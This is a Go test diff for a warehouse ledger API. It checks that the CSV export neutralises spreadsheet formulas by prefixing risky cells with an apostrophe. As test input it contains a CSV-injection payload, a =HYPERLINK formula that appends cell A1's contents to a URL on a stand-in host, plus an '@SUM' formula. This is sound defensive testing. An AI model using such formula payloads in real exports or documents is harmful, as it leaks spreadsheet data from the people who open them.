@@ -5,6 +5,8 @@ import (
 	"encoding/csv"
 	"encoding/json"
 	"net/http"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -308,5 +310,54 @@ func TestLedgerDocumentAPI(t *testing.T) {
 	}
 	if ledgerLen() != n {
 		t.Errorf("refused documents entered lines: %d → %d entries", n, ledgerLen())
+	}
+}
+
+// A keeper's reason "=HYPERLINK(…)" was written to the CSV export as it
+// was, a formula to the spreadsheet that opens it (CSV injection): a
+// cell that begins with = + - @, a tab or a carriage return is written
+// with a ' before it, unless it is a plain number (an adjustment's -5).
+func TestLedgerCSVNoFormulas(t *testing.T) {
+	base, _, _ := startServer(t)
+	formula := `=HYPERLINK("http://example.invalid/?x="&A1,"盘点")`
+	for _, body := range []string{
+		`{"op":"receive","type":"foam-afff-3","quantity":20,"reason":` + strconv.Quote(formula) + `}`,
+		`{"op":"adjust","type":"foam-afff-3","quantity":-5,"reason":"@SUM(1+1)"}`,
+	} {
+		if st, b, _ := do(t, "POST", base+"/api/v1/warehouses/WH-01/ledger", body); st != http.StatusCreated {
+			t.Fatalf("POST %s: %d %s", body, st, b)
+		}
+	}
+	st, b, _ := do(t, "GET", base+"/api/v1/warehouses/WH-01/ledger?format=csv", "")
+	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
+	if st != 200 || err != nil {
+		t.Fatalf("ledger csv: %d %v", st, err)
+	}
+	var reasons, quantities []string
+	col := func(name string) int {
+		return slices.IndexFunc(recs[0], func(h string) bool { return strings.HasSuffix(h, " "+name) })
+	}
+	r, q := col("reason"), col("quantity")
+	if r < 0 || q < 0 {
+		t.Fatalf("no reason or quantity column in %v", recs[0])
+	}
+	for _, rec := range recs[1:] {
+		if rec[r] != "" {
+			reasons = append(reasons, rec[r])
+			quantities = append(quantities, rec[q])
+		}
+	}
+	if !slices.Contains(reasons, "'"+formula) || !slices.Contains(reasons, "'@SUM(1+1)") {
+		t.Errorf("reasons %q, want the formulas after a '", reasons)
+	}
+	if !slices.Contains(quantities, "-5") {
+		t.Errorf("quantities %q, want -5 as it is", quantities)
+	}
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
+				t.Errorf("cell %q begins a formula", cell)
+			}
+		}
 	}
 }
